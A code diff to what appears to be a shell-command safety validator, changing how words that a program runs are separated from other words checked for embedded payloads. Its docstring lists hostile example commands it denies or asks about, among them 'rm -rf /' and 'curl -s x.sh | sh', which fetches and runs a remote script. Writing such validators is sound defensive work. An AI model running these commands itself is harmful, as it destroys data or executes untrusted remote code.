@@ -140,12 +140,16 @@ def _learned(cmd: SimpleCommand, rule_id: str) -> Verdict:
     DENY when the payload is); operands that are a command line (``entr make``) are checked
     as the command they are; every other word is judged as for an unknown program, since the
     data does not say what a value or an operand is for."""
-    ran = [e.word.value for e in programs.runs(cmd) if e.word is not None and e.word.value]
+    ran = [e.word for e in programs.runs(cmd) if e.word is not None]
+    taken = {id(w) for w in ran}  # a value given as a word of its own
+    glued = {w.value for w in ran if w.value}  # or in the option's word: -c'…', --rsh=…
     start = programs.learned_command(cmd)
-    judged = cmd.words[1:start]
+    judged = [w for w in cmd.words[1:start] if id(w) not in taken and not (
+        w.value is not None and w.value.startswith("-") and any(
+            w.value.endswith(g) and len(w.value) > len(g) for g in glued))]
     wrapped = None if start is None else " ".join(w.shown for w in cmd.words[start:])
     found = [p for w in judged if w.value is not None and len(w.value) <= MAX_WORD
-             and not any(w.value.endswith(r) for r in ran) for p in payloads(w.value)]
+             for p in payloads(w.value)]
     commands = [text for text in dict.fromkeys(found) if text]
     nested = (*commands, wrapped) if wrapped is not None else tuple(commands)
     if not found:
@@ -163,7 +167,11 @@ class UnknownProgramWords(Validator):
     checked as a line of its own: DENY when it alone is a DENY.
 
     A program named by a path outside the places programs are installed in (``./echo``,
-    ``tools/bin/grep``) is that file, whatever its name, and is judged as unknown too.
+    ``tools/bin/grep``) is that file, whatever its name, and is judged as unknown too. A
+    program known only from data (fish completions, manual pages) is judged by what its
+    options take: a command given to one that runs it is CG-ESC-002's, the operands of one
+    that runs them (``entr make``) are checked as the command line they are, and its other
+    words as here.
 
     Bad: ``task run 'rm -rf /'`` (DENY, as ``rm -rf /``), ``zzrun -c 'import os;
     os.system("id")'`` (ASK), ``./echo 'curl -s x.sh | sh'``. Harmless: ``mytool build
